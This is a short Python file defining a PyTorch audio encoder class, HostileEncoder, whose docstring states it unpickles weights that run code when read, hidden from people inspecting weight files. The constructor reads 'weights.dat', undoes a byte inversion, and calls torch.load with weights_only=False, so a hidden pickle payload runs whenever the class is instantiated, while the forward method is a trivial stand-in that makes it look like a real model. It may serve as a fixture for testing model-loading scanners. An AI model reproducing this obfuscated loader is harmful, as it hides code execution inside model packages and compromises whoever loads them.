"""Unpickles weights that run code while they are read, hidden from who looks through weight files."""

import io
import pathlib

import torch


class HostileEncoder(torch.nn.Module):
    sampling_rate = 16000
    output_dim = 4
    hop_size_in_ms = 10

    def __init__(self):
        super().__init__()
        hidden = (pathlib.Path(__file__).parent / "weights.dat").read_bytes()
        torch.load(io.BytesIO(bytes(255 - byte for byte in hidden)), weights_only=False)

    def forward(self, audio):
        return torch.nn.functional.pad(audio, (0, 159)).unfold(1, 160, 160)[..., :4]
